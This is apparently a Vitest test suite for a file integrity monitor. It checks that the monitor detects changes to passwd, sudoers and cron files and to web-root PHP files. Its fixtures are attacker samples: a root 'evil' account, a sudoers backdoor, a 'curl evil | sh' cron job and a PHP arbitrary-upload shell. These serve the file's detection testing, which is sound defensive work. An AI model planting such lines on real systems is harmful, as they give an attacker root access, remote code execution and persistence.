import { appendFile, mkdir, mkdtemp, rm, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { EcsDocument } from '../alert.js';
import { loadBaseline } from './baseline-store.js';
import { field } from '../test-support/ecs-field.js';
import { parseFimConfig } from './fim-config.js';
import { FileIntegrityMonitor } from './fim-monitor.js';

let dir: string;
let root: string;
let web: string;
let state: string;
let monitors: FileIntegrityMonitor[] = [];

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'bulwark-fimmon-'));
  root = join(dir, 'etc');
  web = join(dir, 'www');
  state = join(dir, 'state');
  await mkdir(join(root, 'cron.d'), { recursive: true });
  await mkdir(web);
  await writeFile(join(root, 'passwd'), 'root:x:0:0::/root:/bin/bash\n');
  await writeFile(join(root, 'cron.d', 'backup'), '0 3 * * * root /usr/local/bin/backup\n');
  await writeFile(join(web, 'index.php'), '<?php echo "hello";\n');
});
afterEach(async () => {
  for (const m of monitors) await m.stop();
  monitors = [];
  await rm(dir, { recursive: true, force: true });
});


/** A sink that resolves `next()` with the next batch of events delivered. */
function sink() {
  const batches: EcsDocument[][] = [];
  const waiters: Array<(b: EcsDocument[]) => void> = [];
  return {
    batches,
    onEvents: async (docs: EcsDocument[]) => {
      const w = waiters.shift();
      if (w) w(docs);
      else batches.push(docs);
    },
    next: (): Promise<EcsDocument[]> => (batches.length > 0 ? Promise.resolve(batches.shift()!) : new Promise((r) => waiters.push(r))),
  };
}

async function start(watch: boolean, events: ReturnType<typeof sink>, scanWebFile?: (p: string) => Promise<EcsDocument[]>): Promise<FileIntegrityMonitor> {
  const m = await FileIntegrityMonitor.start({
    config: parseFimConfig({ paths: [root], webRoots: [web], watch, scanIntervalSeconds: 3600 }),
    stateDir: state,
    host: 'h1',
    settleMs: 50,
    onEvents: events.onEvents,
    ...(scanWebFile ? { scanWebFile } : {}),
  });
  monitors.push(m);
  return m;
}

describe('FileIntegrityMonitor', () => {
  it('takes the baseline silently at first start', async () => {
    const events = sink();
    const m = await start(false, events);
    expect(m.size).toBe(3);
    expect((await loadBaseline(state))!.files.size).toBe(3);
    expect(await m.fullScan()).toEqual([]);
    expect(events.batches).toEqual([]);
  });

  it('sees changes through watching: a modified file, a new file in a new folder, a removal', async () => {
    const events = sink();
    await start(true, events);
    await appendFile(join(root, 'passwd'), 'evil:x:0:0::/:/bin/sh\n');
    const first = await events.next();
    expect(first.map((d) => [field(d, 'event.action'), field(d, 'file.path'), field(d, 'bulwark.fim.detected_by')])).toEqual([['file-modified', join(root, 'passwd'), 'watch']]);

    await mkdir(join(root, 'sudoers.d'));
    await writeFile(join(root, 'sudoers.d', 'backdoor'), 'evil ALL=(ALL) NOPASSWD: ALL\n');
    const added: EcsDocument[] = [];
    while (!added.some((d) => field(d, 'file.path') === join(root, 'sudoers.d', 'backdoor'))) added.push(...(await events.next()));
    expect(field(added.at(-1), 'event.action')).toBe('file-added');

    await unlink(join(root, 'cron.d', 'backup'));
    const removed = await events.next();
    expect(removed.map((d) => [field(d, 'event.action'), field(d, 'threat.technique.id')])).toEqual([['file-removed', 'T1070.004']]);
  });

  it('finds with the periodic full scan what it did not watch, once', async () => {
    const events = sink();
    const m = await start(false, events);
    await writeFile(join(root, 'cron.d', 'miner'), '* * * * * root curl evil | sh\n');
    const changes = await m.fullScan();
    expect(changes.map((c) => [c.kind, c.path])).toEqual([['added', join(root, 'cron.d', 'miner')]]);
    expect(field((await events.next())[0], 'bulwark.fim.detected_by')).toBe('scan');
    // the baseline moved on: the next scan is quiet
    expect(await m.fullScan()).toEqual([]);
  });

  it('at start, reports what changed while it was not running', async () => {
    const first = await start(false, sink());
    await first.stop();
    monitors = [];
    await writeFile(join(root, 'passwd'), 'changed while down\n');
    const events = sink();
    await start(false, events);
    expect((await events.next()).map((d) => field(d, 'file.path'))).toEqual([join(root, 'passwd')]);
  });

  it('keeps the baseline when delivery fails, so the change is reported again', async () => {
    let fail = true;
    const delivered: EcsDocument[][] = [];
    const m = await FileIntegrityMonitor.start({
      config: parseFimConfig({ paths: [root], watch: false }),
      stateDir: state,
      onEvents: async (docs) => {
        if (fail) throw new Error('server down');
        delivered.push(docs);
      },
    });
    monitors.push(m);
    await writeFile(join(root, 'passwd'), 'x\n');
    await expect(m.fullScan()).rejects.toThrow('server down');
    fail = false;
    expect((await m.fullScan()).map((c) => c.path)).toEqual([join(root, 'passwd')]);
    expect(delivered).toHaveLength(1);
  });

  it('sends new and changed web-root files to the webshell scan', async () => {
    const events = sink();
    const scanned: string[] = [];
    const m = await start(false, events, async (path) => {
      scanned.push(path);
      return [{ rule: { id: 'webshell-test' } }];
    });
    await writeFile(join(web, 'up.php'), '<?php move_uploaded_file($_FILES["f"]["tmp_name"], $_GET["p"]);');
    await m.fullScan();
    const docs = await events.next();
    expect(scanned).toEqual([join(web, 'up.php')]);
    expect(docs.map((d) => field(d, 'rule.id'))).toEqual(['fim-webroot-added', 'webshell-test']);
  });
});
